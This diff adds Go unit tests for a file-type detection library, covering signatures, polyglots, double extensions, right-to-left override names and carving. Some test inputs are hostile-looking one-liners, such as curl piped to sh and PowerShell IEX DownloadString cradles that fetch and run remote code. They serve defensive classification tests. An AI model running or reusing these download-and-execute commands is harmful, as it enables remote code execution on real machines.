@@ -1,8 +1,19 @@
 package filetype_test
 
 import (
+	"archive/zip"
+	"bytes"
+	"encoding/binary"
 	"encoding/hex"
+	"encoding/json"
+	"errors"
 	"fmt"
+	"hash/crc32"
+	"io/ioutil"
+	"path/filepath"
+	"reflect"
+	"strconv"
+	"strings"
 	"testing"
 
 	"github.com/gdcorp-infosec/threat-util/help/filetype"
@@ -36,3 +47,631 @@ func TestFileType(t *testing.T) {
 		}
 	}
 }
+
+func TestBest(t *testing.T) {
+	png, _ := hex.DecodeString("89504e470d0a1a0a0000000d494844520000000100000001080600000001f15c4a" +
+		"0000000049454e44ae426082")
+
+	for i, tv := range []struct {
+		Data       []byte
+		Id         filetype.Id
+		MimeType   string
+		Confidence float64
+	}{
+		{png, filetype.Png, "image/png", 1},
+		{[]byte("MZ"), filetype.Dos, "application/x-dosexec", 0.6},
+		{[]byte("text"), filetype.Text, "text/plain", 0.2},
+		{[]byte{}, filetype.Empty, "application/x-empty", 1},
+		{[]byte("PK\x05\x06" + string(make([]byte, 18))), filetype.Zip, "application/zip", 0.8},
+	} {
+		best := filetype.Get(tv.Data).Best()
+		if best.FileTypeId != tv.Id || best.MimeType != tv.MimeType || best.Confidence != tv.Confidence {
+			t.Fatalf("bad best type %v: %+v", i+1, best)
+		}
+	}
+
+	// A GIF signature without the rest of the header fails the structural check
+	fileTypes := filetype.Get([]byte("GIF89a"))
+	if !fileTypes.Matches(filetype.Gif) || fileTypes[0].Confidence >= 0.5 {
+		t.Fatalf("bad unvalidated type %+v", fileTypes)
+	}
+
+	if (filetype.FileTypes{}).Best().FileTypeId != filetype.None {
+		t.Fatal("bad best of no types")
+	}
+}
+
+func TestSignatureLocations(t *testing.T) {
+	iso := make([]byte, 0x9010)
+	copy(iso[0x8801:], "CD001")
+
+	tar := make([]byte, 512)
+	copy(tar, "file.txt")
+	copy(tar[257:], "ustar\x0000")
+
+	for i, tv := range []struct {
+		Data []byte
+		Id   filetype.Id
+	}{
+		{iso, filetype.Iso},
+		{tar, filetype.Tar},
+		{[]byte("\r\n%PDF-1.5"), filetype.Pdf},
+	} {
+		if !filetype.Get(tv.Data).Matches(tv.Id) {
+			t.Fatalf("filetype mismatch: %v", i+1)
+		}
+	}
+
+	// The magic numbers alone, at the start, are not enough
+	if filetype.Get([]byte("CD001 ustar")).Matches(filetype.Iso) || filetype.Get([]byte("ustar\x0000")).Matches(filetype.Tar) {
+		t.Fatal("bad match at offset zero")
+	}
+
+	// Ranges are bounded
+	if filetype.Get(append(make([]byte, 1025), "%PDF-"...)).Matches(filetype.Pdf) {
+		t.Fatal("bad match outside range")
+	}
+}
+
+func TestSharedMagic(t *testing.T) {
+	class, _ := hex.DecodeString("cafebabe00000034001d0a0006000f09")
+	fat, _ := hex.DecodeString("cafebabe000000020100000700000003")
+
+	if fileTypes := filetype.Get(class); !fileTypes.Matches(filetype.JavaClass) || fileTypes.Matches(filetype.Macho) {
+		t.Fatalf("bad class types %+v", fileTypes)
+	}
+	if fileTypes := filetype.Get(fat); !fileTypes.Matches(filetype.Macho) || fileTypes.Matches(filetype.JavaClass) {
+		t.Fatalf("bad universal binary types %+v", fileTypes)
+	}
+
+	// Carving applies the same checks
+	carved, _ := filetype.Carve(append(make([]byte, 16), class...), 10)
+	for _, cf := range carved {
+		if cf.FileTypeId == filetype.Macho {
+			t.Fatalf("bad carved type %+v", cf)
+		}
+	}
+}
+
+func readTestFile(t *testing.T, name string) []byte {
+	data, err := ioutil.ReadFile(filepath.Join("testdata", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	return data
+}
+
+func TestZipContainers(t *testing.T) {
+	malDocData, _ := hex.DecodeString(malDoc)
+
+	for i, tv := range []struct {
+		Data     []byte
+		Id       filetype.Id
+		MimeType string
+	}{
+		// The content types override the main part
+		{readTestFile(t, "document.docx"), filetype.Docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
+		{readTestFile(t, "workbook.xlsm"), filetype.Xlsm, "application/vnd.ms-excel.sheet.macroEnabled.12"},
+		// Without a main part override, the part names decide
+		{readTestFile(t, "presentation.pptx"), filetype.Pptx, "application/vnd.openxmlformats-officedocument.presentationml.presentation"},
+		{readTestFile(t, "macros.docm"), filetype.Docm, "application/vnd.ms-word.document.macroEnabled.12"},
+		{readTestFile(t, "spreadsheet.ods"), filetype.OpenDocument, "application/vnd.oasis.opendocument.spreadsheet"},
+		{readTestFile(t, "app.jar"), filetype.Jar, "application/java-archive"},
+		{readTestFile(t, "app.apk"), filetype.Apk, "application/vnd.android.package-archive"},
+		{readTestFile(t, "extension.xpi"), filetype.BrowserExtension, "application/x-xpinstall"},
+		{readTestFile(t, "plain.zip"), filetype.Zip, "application/zip"},
+		// Truncated before the central directory
+		{malDocData, filetype.Docm, "application/vnd.ms-word.document.macroEnabled.12"},
+	} {
+		best := filetype.Get(tv.Data).Best()
+		if best.FileTypeId != tv.Id || best.MimeType != tv.MimeType {
+			t.Fatalf("bad zip container type %v: %+v", i+1, best)
+		}
+	}
+
+	// Names anywhere in the data are not enough
+	if filetype.Get(readTestFile(t, "decoy.zip")).Matches(filetype.OpenOfficeXml) {
+		t.Fatal("bad match on entry contents")
+	}
+}
+
+func TestTextSubtypes(t *testing.T) {
+	for i, tv := range []struct {
+		Text      string
+		Id        filetype.Id
+		Heuristic string
+	}{
+		{"#!/bin/bash\ncurl -s http://example.com/x | sh\n", filetype.ShellScript, "shebang /bin/bash"},
+		{"#!/usr/bin/env python3\nprint('hi')\n", filetype.Python, "shebang /usr/bin/env python3"},
+		{"<!DOCTYPE html>\n<html><body>hi</body></html>", filetype.Html, "HTML tag <!doctype html>"},
+		{"<html><head><HTA:APPLICATION ID=\"x\"/><script language=\"VBScript\">", filetype.Hta, "HTA:APPLICATION tag"},
+		{"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>", filetype.Svg, "SVG root element"},
+		{"<?xml version=\"1.0\"?>\n<root/>", filetype.Xml, "XML declaration"},
+		{" {\"a\": [1, 2]}\n", filetype.Json, "valid JSON object or array"},
+		{"$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://example.com/x')\n", filetype.PowerShell, "keywords Invoke-Expression, cmdlet"},
+		{"@echo off\r\nset x=%TEMP%\\a.exe\r\nstart %x%\r\n", filetype.Batch, "keywords @echo off, command, variable"},
+		{"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n", filetype.JavaScript, "keywords ActiveXObject, declaration"},
+		{"On Error Resume Next\nDim s\nSet s = CreateObject(\"WScript.Shell\")\n", filetype.VbScript, "keywords CreateObject, Dim, On Error Resume Next, Set"},
+		{"import os\n\ndef main():\n    os.system('id')\n\nif __name__ == '__main__':\n    main()\n", filetype.Python, "keywords __main__, def, import"},
+	} {
+		best := filetype.Get([]byte(tv.Text)).Best()
+		if best.FileTypeId != tv.Id || best.Heuristic != tv.Heuristic {
+			t.Fatalf("bad text type %v: %+v", i+1, best)
+		}
+	}
+
+	// HTAs are HTML too
+	if !filetype.Get([]byte("<hta:application/>")).Matches(filetype.Html) {
+		t.Fatal("bad HTA types")
+	}
+
+	for i, text := range []string{"hello world", "{not json", "set"} {
+		if best := filetype.Get([]byte(text)).Best(); best.FileTypeId != filetype.Text || best.Heuristic != "" {
+			t.Fatalf("bad plain text %v: %+v", i+1, best)
+		}
+	}
+}
+
+func utf16Le(s string) []byte {
+	var p []byte
+	for _, r := range s {
+		p = append(p, byte(r), byte(r>>8))
+	}
+	return p
+}
+
+func TestEncoding(t *testing.T) {
+	utf16Be := func(s string) []byte {
+		p := utf16Le(s)
+		for i := 0; i+1 < len(p); i += 2 {
+			p[i], p[i+1] = p[i+1], p[i]
+		}
+		return p
+	}
+	utf32Le := []byte{0xFF, 0xFE, 0, 0, 'h', 0, 0, 0, 0xE9, 0, 0, 0, 'y', 0, 0, 0}
+
+	for i, tv := range []struct {
+		Data     []byte
+		Id       filetype.Id
+		Encoding string
+	}{
+		{[]byte("plain"), filetype.Text, filetype.EncodingAscii},
+		{[]byte("caf\xc3\xa9 na\xc3\xafve"), filetype.Text, filetype.EncodingUtf8},
+		{[]byte("\xef\xbb\xbf{\"k\": \"v\"}"), filetype.Json, filetype.EncodingUtf8Bom},
+		{append([]byte{0xFF, 0xFE}, utf16Le("Windows Registry Editor Version 5.00\r\n")...), filetype.Text, filetype.EncodingUtf16Le},
+		{utf16Le("@echo off\r\nset x=1\r\n"), filetype.Batch, filetype.EncodingUtf16Le},
+		{utf16Be("IEX (New-Object Net.WebClient).DownloadString('http://x')"), filetype.PowerShell, filetype.EncodingUtf16Be},
+		{utf32Le, filetype.Text, filetype.EncodingUtf32Le},
+	} {
+		best := filetype.Get(tv.Data).Best()
+		if best.FileTypeId != tv.Id || best.Encoding != tv.Encoding {
+			t.Fatalf("bad encoded type %v: %+v", i+1, best)
+		}
+	}
+
+	// Only the start of long text is probed, without the character the probe cuts through
+	long := append(bytes.Repeat([]byte("a"), 64*1024-1), "\xc3\xa9"...)
+	if best := filetype.Get(long).Best(); best.FileTypeId != filetype.Text || best.Encoding != filetype.EncodingAscii {
+		t.Fatalf("bad long text %+v", best)
+	}
+	longUtf16 := append(utf16Le(strings.Repeat("a", 32*1024-1)), 0x3D, 0xD8, 0x00, 0xDE)
+	if best := filetype.Get(append([]byte{0xFF, 0xFE}, longUtf16...)).Best(); best.FileTypeId != filetype.Text {
+		t.Fatalf("bad long UTF-16 text %+v", best)
+	}
+
+	// JSON is still validated over all of the data
+	longJson := []byte(`{"k": "` + strings.Repeat("v", 64*1024) + `"}`)
+	if best := filetype.Get(longJson).Best(); best.FileTypeId != filetype.Json {
+		t.Fatalf("bad long JSON %+v", best)
+	}
+	if best := filetype.Get(longJson[:len(longJson)-1]).Best(); best.FileTypeId != filetype.Text {
+		t.Fatalf("bad truncated JSON %+v", best)
+	}
+
+	for i, data := range [][]byte{
+		[]byte("\xc3\x28 invalid"),
+		// The NUL pattern of UTF-16 without text in it
+		{1, 0, 2, 0, 3, 0, 4, 0, 5, 0, 6, 0},
+		// An unpaired surrogate
+		{0xFF, 0xFE, 0x00, 0xD8, 'a', 0},
+	} {
+		if best := filetype.Get(data).Best(); best.FileTypeId != filetype.Binary || best.Encoding != "" {
+			t.Fatalf("bad binary %v: %+v", i+1, best)
+		}
+	}
+}
+
+func TestMismatch(t *testing.T) {
+	javaScript := "import { x } from './y';\nexport const app = (a: number) => { return a; };\n" +
+		"function f() { var z = document.getElementById('a'); }"
+
+	for i, tv := range []struct {
+		Name            string
+		Data            string
+		Mismatch        bool
+		DoubleExtension bool
+		DisplayedName   string
+	}{
+		{"invoice.pdf.exe", "MZ", false, true, ""},
+		{"C:\\Users\\x\\invoice.PDF   .exe", "MZ", false, true, ""},
+		{"report.pdf", "MZ", true, false, ""},
+		{"photo\u202Egpj.exe", "MZ", false, false, "photoexe.jpg"},
+		{"jquery.min.js", "var x = function() { return 1; };", false, false, ""},
+		{"notes.txt", "hello", false, false, ""},
+		{"library.dll", "MZ", false, false, ""},
+		{"", "MZ", false, false, ""},
+		{"libc.so", "\x7FELF", false, false, ""},
+		{"lib.so.1", "\x7FELF", false, false, ""},
+		{"mod.ko", "\x7FELF", false, false, ""},
+		{"libfoo.dylib", "\xCF\xFA\xED\xFE", false, false, ""},
+		{"readme.md", javaScript, false, false, ""},
+		{"app.ts", javaScript, false, false, ""},
+		{"page.php", "<?php echo 'hi'; ?><html><body></body></html>", false, false, ""},
+		{"page.aspx", `<%@ Page Language="C#" %><html><body></body></html>`, false, false, ""},
+		{"build.log", "echo started\nset x=1\ngoto end\n@echo off", false, false, ""},
+		{"invoice.pdf", javaScript, true, false, ""},
+		{"invoice.exe", "<html><body></body></html>", true, false, ""},
+	} {
+		m := filetype.CheckMismatch(tv.Name, []byte(tv.Data))
+		if m.ExtensionMismatch != tv.Mismatch || m.DoubleExtension != tv.DoubleExtension || m.DisplayedName != tv.DisplayedName ||
+			m.RightToLeftOverride != (tv.DisplayedName != "") || m.Polyglot || m.Suspicious() != (tv.Mismatch || tv.DoubleExtension || tv.DisplayedName != "") {
+			t.Fatalf("bad mismatch %v: %+v", i+1, m)
+		}
+	}
+
+	if m := filetype.CheckMismatch("report.pdf", []byte("MZ")); !reflect.DeepEqual(m.ExpectedExtensions, []string{"exe", "txt"}) {
+		t.Fatalf("bad expected extensions %v", m.ExpectedExtensions)
+	}
+
+	gif := []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")
+	pdf := []byte("%PDF-1.4\n1 0 obj << >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
+	png, _ := hex.DecodeString("89504e470d0a1a0a0000000d494844520000000100000001080600000001f15c4a" +
+		"0000000049454e44ae426082")
+	zipData := readTestFile(t, "plain.zip")
+
+	for i, tv := range []struct {
+		Data   []byte
+		Ids    []filetype.Id
+		Offset int
+	}{
+		{append(gif, zipData...), []filetype.Id{filetype.Gif, filetype.Zip}, len(gif)},
+		{append(pdf, zipData...), []filetype.Id{filetype.Pdf, filetype.Zip}, len(pdf)},
+		{append(png, "<html><HTA:APPLICATION/><script>"...), []filetype.Id{filetype.Png, filetype.Hta}, len(png) + 6},
+	} {
+		m := filetype.CheckMismatch("", tv.Data)
+		if !m.Polyglot || len(m.PolyglotTypes) != 2 {
+			t.Fatalf("bad polyglot %v: %+v", i+1, m)
+		}
+		if m.PolyglotTypes[0].FileTypeId != tv.Ids[0] || m.PolyglotTypes[1].FileTypeId != tv.Ids[1] || m.PolyglotTypes[1].Offset != tv.Offset {
+			t.Fatalf("bad polyglot types %v: %+v", i+1, m.PolyglotTypes)
+		}
+	}
+
+	// Types refining each other are one format
+	if m := filetype.CheckMismatch("a.docx", readTestFile(t, "document.docx")); m.Polyglot || m.Suspicious() {
+		t.Fatalf("bad docx %+v", m)
+	}
+}
+
+func TestIdNames(t *testing.T) {
+	names := map[string]bool{}
+	for id := filetype.None; id <= filetype.Pyc; id++ {
+		name := id.String()
+		if _, err := strconv.Atoi(name); err == nil || names[name] {
+			t.Fatalf("bad name %q for %d", name, id)
+		}
+		names[name] = true
+
+		var decoded filetype.Id
+		if err := decoded.UnmarshalText([]byte(name)); err != nil || decoded != id {
+			t.Fatalf("bad round trip of %q: %v", name, err)
+		}
+	}
+
+	data, err := json.Marshal(filetype.FileType{FileTypeId: filetype.Office})
+	if err != nil || !bytes.Contains(data, []byte(`"FileTypeId":"ole"`)) {
+		t.Fatalf("bad marshaled type %s %v", data, err)
+	}
+
+	// Results stored with numbers still decode
+	var ft filetype.FileType
+	if err := json.Unmarshal([]byte(`{"FileTypeId": 5}`), &ft); err != nil || ft.FileTypeId != filetype.Pe {
+		t.Fatalf("bad numeric id %+v %v", ft, err)
+	}
+	if err := json.Unmarshal([]byte(`{"FileTypeId": "ooxml"}`), &ft); err != nil || ft.FileTypeId != filetype.OpenOfficeXml {
+		t.Fatalf("bad named id %+v %v", ft, err)
+	}
+	if err := json.Unmarshal([]byte(`{"FileTypeId": "nope"}`), &ft); !errors.Is(err, filetype.ErrUnknownName) {
+		t.Fatalf("bad unknown name error %v", err)
+	}
+
+	// User-defined types have numbers for names
+	if filetype.Id(1000).String() != "1000" {
+		t.Fatal("bad user-defined name")
+	}
+
+	for i, tv := range []struct {
+		Extension string
+		MimeType  string
+		Id        filetype.Id
+	}{
+		{".EXE", "application/vnd.microsoft.portable-executable", filetype.Pe},
+		{"dll", "application/vnd.microsoft.portable-executable; charset=binary", filetype.Pe},
+		{"docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", filetype.Docx},
+		{"zip", "application/zip", filetype.Zip},
+		{"doc", "application/x-ole-storage", filetype.Office},
+		{"txt", "text/plain; charset=utf-8", filetype.Text},
+		{"ods", "application/vnd.oasis.opendocument.spreadsheet", filetype.OpenDocument},
+		{"ps1", "text/x-powershell", filetype.PowerShell},
+	} {
+		if id, ok := filetype.IdByExtension(tv.Extension); !ok || id != tv.Id {
+			t.Fatalf("bad extension lookup %v: %v", i+1, id)
+		}
+		if id, ok := filetype.IdByMimeType(tv.MimeType); !ok || id != tv.Id {
+			t.Fatalf("bad MIME type lookup %v: %v", i+1, id)
+		}
+	}
+
+	for _, extension := range []string{"", ".", " "} {
+		if id, ok := filetype.IdByExtension(extension); ok {
+			t.Fatalf("bad empty extension %q: %v", extension, id)
+		}
+	}
+	if _, ok := filetype.IdByExtension("nope"); ok {
+		t.Fatal("bad unknown extension")
+	}
+}
+
+// newc cpio archive of the files "a" and "b"
+const cpioArchive = "07070100000001000081A40000000000000000000000010000000000000002000000000000000000000000000000000000000200000000a\x00hi\x00\x00" +
+	"07070100000001000081A40000000000000000000000010000000000000002000000000000000000000000000000000000000200000000b\x00hi\x00\x00" +
+	"07070100000001000081A40000000000000000000000010000000000000002000000000000000000000000000000000000000B00000000TRAILER!!!\x00\x00\x00\x00hi\x00\x00"
+
+func TestFormats(t *testing.T) {
+	le := binary.LittleEndian
+
+	xz := []byte("\xFD7zXZ\x00\x00\x04\x00\x00\x00\x00")
+	le.PutUint32(xz[8:], crc32.ChecksumIEEE(xz[6:8]))
+
+	lnk := make([]byte, 0x4C)
+	copy(lnk, "\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
+	le.PutUint32(lnk[0x3C:], 7)
+
+	oneNote := []byte("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3" +
+		"\x3F\xDD\x9A\x10\x1B\x91\xF5\x49\xA5\xD0\x17\x91\xED\xC8\xAE\xD8")
+
+	vhdx := append([]byte("vhdxfile"), make([]byte, 0x10000)...)
+	copy(vhdx[0x10000:], "head")
+
+	rpm := make([]byte, 112)
+	copy(rpm, "\xED\xAB\xEE\xDB\x03\x00")
+	copy(rpm[96:], "\x8E\xAD\xE8\x01")
+
+	hive := make([]byte, 0x2000)
+	copy(hive, "regf")
+	le.PutUint32(hive[20:], 1)
+	le.PutUint32(hive[24:], 5)
+	le.PutUint32(hive[40:], 0x1000)
+	copy(hive[0x1000:], "hbin")
+
+	evtx := make([]byte, 0x1000)
+	copy(evtx, "ElfFile\x00")
+	le.PutUint32(evtx[32:], 128)
+	le.PutUint16(evtx[38:], 3)
+	le.PutUint16(evtx[40:], 0x1000)
+
+	// Footers of a fixed and a dynamic disk, with their checksums
+	vhdFixed, _ := hex.DecodeString("636F6E6563746978" + strings.Repeat("00", 52) + "00000002FFFFFCA0" + strings.Repeat("00", 444))
+	vhdDynamic, _ := hex.DecodeString("636F6E6563746978" + strings.Repeat("00", 52) + "00000003FFFFFC9F" + strings.Repeat("00", 444))
+
+	pcapNg := []byte("\x0A\x0D\x0D\x0A\x1C\x00\x00\x00\x4D\x3C\x2B\x1A\x01\x00\x00\x00" +
+		"\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x1C\x00\x00\x00")
+
+	for i, tv := range []struct {
+		Data []byte
+		Id   filetype.Id
+	}{
+		{xz, filetype.Xz},
+		{[]byte("\x28\xB5\x2F\xFD\x24\x05"), filetype.Zstd},
+		{[]byte("\x04\x22\x4D\x18\x64\x40\xA7"), filetype.Lz4},
+		{lnk, filetype.Lnk},
+		{readTestFile(t, "installer.msi"), filetype.Msi},
+		{[]byte("ITSF\x03\x00\x00\x00\x60\x00\x00\x00"), filetype.Chm},
+		{oneNote, filetype.OneNote},
+		{vhdDynamic, filetype.Vhd},
+		{append(make([]byte, 4096), vhdFixed...), filetype.Vhd},
+		{vhdx, filetype.Vhdx},
+		{[]byte("MSWIM\x00\x00\x00\xD0\x00\x00\x00"), filetype.Wim},
+		{[]byte(cpioArchive), filetype.Cpio},
+		{rpm, filetype.Rpm},
+		{[]byte("!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n" +
+			"control.tar.gz  0           0     0     100644  1         `\nx"), filetype.Deb},
+		{[]byte("!<arch>\n/               0           0     0     100644  0         `\n" +
+			"a.o/            0           0     0     100644  1         `\nx"), filetype.Ar},
+		{hive, filetype.RegistryHive},
+		{evtx, filetype.Evtx},
+		{pcapNg, filetype.PcapNg},
+		{[]byte("\x55\x0D\x0D\x0A\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xE3"), filetype.Pyc},
+	} {
+		if best := filetype.Get(tv.Data).Best(); best.FileTypeId != tv.Id {
+			t.Fatalf("bad format %v: %+v", i+1, best)
+		}
+	}
+
+	// The magic numbers alone are not enough
+	for i, tv := range []struct {
+		Data []byte
+		Id   filetype.Id
+	}{
+		{[]byte("\xFD7zXZ\x00\x00\x04\x00\x00\x00\x00"), filetype.Xz},
+		{[]byte("\x28\xB5\x2F\xFD\x08"), filetype.Zstd},
+		{[]byte("\x04\x22\x4D\x18\x00\x40"), filetype.Lz4},
+		{[]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), filetype.Msi},
+		{[]byte("ITSF\x09\x00\x00\x00"), filetype.Chm},
+		{oneNote[:20], filetype.OneNote},
+		{[]byte("conectix"), filetype.Vhd},
+		{[]byte("vhdxfile"), filetype.Vhdx},
+		{[]byte("070701 not hex"), filetype.Cpio},
+		{[]byte("\xED\xAB\xEE\xDB\x03\x00"), filetype.Rpm},
+		{[]byte("!<arch>\n/               0           0     0     100644  0         `\n"), filetype.Deb},
+		{[]byte("regf"), filetype.RegistryHive},
+		{[]byte("ElfFile\x00"), filetype.Evtx},
+		{[]byte("\x0A\x0D\x0D\x0A\x1C\x00\x00\x00"), filetype.PcapNg},
+		{[]byte("\x55\x0D\x0D\x0Aabcd"), filetype.Pyc},
+	} {
+		if filetype.Get(tv.Data).Matches(tv.Id) {
+			t.Fatalf("bad match on magic number %v", i+1)
+		}
+	}
+
+	// The root CLSID is read without walking the directory, which loops in this file
+	cyclic, err := ioutil.ReadFile("../ole/testdata/cyclic.doc")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if filetype.Get(cyclic).Matches(filetype.Msi) {
+		t.Fatal("bad match on cyclic compound file")
+	}
+
+	// Bytecode reports its Python version
+	pyc := filetype.Get([]byte("\x03\xF3\x0D\x0A\x00\x00\x00\x00\x63")).Best()
+	if pyc.FileTypeId != filetype.Pyc || pyc.Description != "Python Bytecode (Python 2.7)" {
+		t.Fatalf("bad pyc %+v", pyc)
+	}
+
+	// Walked lengths of carved files
+	cpio := []byte(cpioArchive)
+	carved, _ := filetype.Carve(append(append(make([]byte, 16), cpio...), "trailing data"...), 10)
+	if len(carved) != 1 || carved[0].FileTypeId != filetype.Cpio || carved[0].Offset != 16 || carved[0].Length != len(cpio) {
+		t.Fatalf("bad carved cpio %+v", carved)
+	}
+	carved, _ = filetype.Carve(append(append(make([]byte, 16), hive...), make([]byte, 100)...), 10)
+	if len(carved) != 1 || carved[0].FileTypeId != filetype.RegistryHive || carved[0].Length != len(hive) {
+		t.Fatalf("bad carved hive %+v", carved)
+	}
+}
+
+func TestRegistry(t *testing.T) {
+	r := filetype.NewRegistry()
+
+	definitions := `[
+		{"Id": 1000, "Description": "Test Format", "Extensions": ["tst"], "Signatures": ["54 53 54 ?? 01", "@8:54 53 54 32"]},
+		{"Id": 1001, "Description": "Other Format", "Signatures": ["4F 54 48 45 52"]}
+	]`
+	if err := r.LoadDefinitions([]byte(definitions)); err != nil {
+		t.Fatal(err)
+	}
+
+	fileTypes := r.Get([]byte("TST\x00\x01"))
+	if !fileTypes.Matches(1000) || fileTypes[0].Description != "Test Format" || fileTypes[0].Extensions[0] != "tst" {
+		t.Fatalf("bad user-defined type %+v", fileTypes)
+	} else if !r.Get([]byte("........TST2")).Matches(1000) {
+		t.Fatal("bad user-defined type at offset")
+	} else if !r.Get([]byte("%PDF-1.4")).Matches(filetype.Pdf) {
+		t.Fatal("bad built-in type")
+	} else if filetype.Get([]byte("TST\x00\x01")).Matches(1000) {
+		t.Fatal("bad default registry")
+	}
+
+	carved, _ := r.Carve([]byte("junk OTHER junk"), 0)
+	if len(carved) != 1 || carved[0].FileTypeId != 1001 || carved[0].Offset != 5 {
+		t.Fatalf("bad carving %+v", carved)
+	}
+
+	// Conflicts with registered types and within the definitions reject them all
+	err := r.Register(
+		filetype.Definition{Id: 1002, Signatures: []string{"4D534346"}},
+		filetype.Definition{Id: 1001, Signatures: []string{"AA BB CC DD"}},
+		filetype.Definition{Id: 1003, Signatures: []string{"AA BB CC DD"}},
+	)
+	var conflicts filetype.ConflictErrors
+	if !errors.As(err, &conflicts) || len(conflicts) != 3 {
+		t.Fatalf("bad conflicts %v", err)
+	} else if c := conflicts[0]; c.Id != 1002 || c.ExistingId != filetype.Cab || c.Signature != "4D534346" {
+		t.Fatalf("bad signature conflict %+v", c)
+	} else if c := conflicts[1]; c.Id != 1001 || c.Signature != "" {
+		t.Fatalf("bad ID conflict %+v", c)
+	} else if c := conflicts[2]; c.Id != 1003 || c.ExistingId != 1001 {
+		t.Fatalf("bad signature conflict %+v", c)
+	} else if r.Get([]byte{0xAA, 0xBB, 0xCC, 0xDD}).Matches(1003) {
+		t.Fatal("bad partial registration")
+	}
+
+	if err := r.Register(filetype.Definition{Id: filetype.Pe, Signatures: []string{"01 02"}}); !errors.Is(err, filetype.ErrReservedId) {
+		t.Fatalf("bad reserved ID error %v", err)
+	}
+	if err := r.Register(filetype.Definition{Id: 1004, Signatures: []string{"0"}}); err == nil {
+		t.Fatal("bad signature accepted")
+	}
+}
+
+func TestCarve(t *testing.T) {
+	png, _ := hex.DecodeString("89504e470d0a1a0a0000000d494844520000000100000001080600000001f15c4a" +
+		"0000000049454e44ae426082")
+
+	zipBuf := &bytes.Buffer{}
+	zw := zip.NewWriter(zipBuf)
+	for _, name := range []string{"a.txt", "b.txt"} {
+		w, _ := zw.Create(name)
+		w.Write([]byte("zip entry " + name))
+	}
+	zw.SetComment("comment")
+	zw.Close()
+
+	pdf := []byte("%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n")
+	pe, err := ioutil.ReadFile("../pe/testdata/imports.exe")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// A PNG with a PE, a zip and a PDF appended, separated by junk
+	var data []byte
+	data = append(data, png...)
+	data = append(data, "junk MZ junk"...)
+	peOffset := len(data)
+	data = append(data, pe...)
+	zipOffset := len(data)
+	data = append(data, zipBuf.Bytes()...)
+	data = append(data, "\x00\x00"...)
+	pdfOffset := len(data)
+	data = append(data, pdf...)
+
+	carved, truncated := filetype.Carve(data, 0)
+	if truncated {
+		t.Fatal("bad truncation")
+	}
+
+	type result struct {
+		Id     filetype.Id
+		Offset int
+		Length int
+	}
+	var results []result
+	for _, c := range carved {
+		results = append(results, result{c.FileTypeId, c.Offset, c.Length})
+	}
+
+	expected := []result{
+		{filetype.Png, 0, len(png)},
+		{filetype.Pe, peOffset, len(pe)},
+		{filetype.Zip, zipOffset, zipBuf.Len()},
+		{filetype.Pdf, pdfOffset, len(pdf)},
+	}
+	if !reflect.DeepEqual(results, expected) {
+		t.Fatalf("bad carving %v, expected %v", results, expected)
+	}
+
+	carved, truncated = filetype.Carve(data, 2)
+	if !truncated || len(carved) != 2 {
+		t.Fatalf("bad limit %v %v", len(carved), truncated)
+	}
+
+	// Matches find their end markers without searching the rest of the data each time
+	repeated := bytes.Repeat([]byte("%PDF-PK\x03\x04"), 1<<17)
+	repeated = append(repeated, "%%EOF"...)
+	carved, _ = filetype.Carve(repeated, 0)
+	if len(carved) != 2<<17 || carved[0].Length != len(repeated) || carved[1].Length != 0 {
+		t.Fatalf("bad repeated carving %v", len(carved))
+	}
+}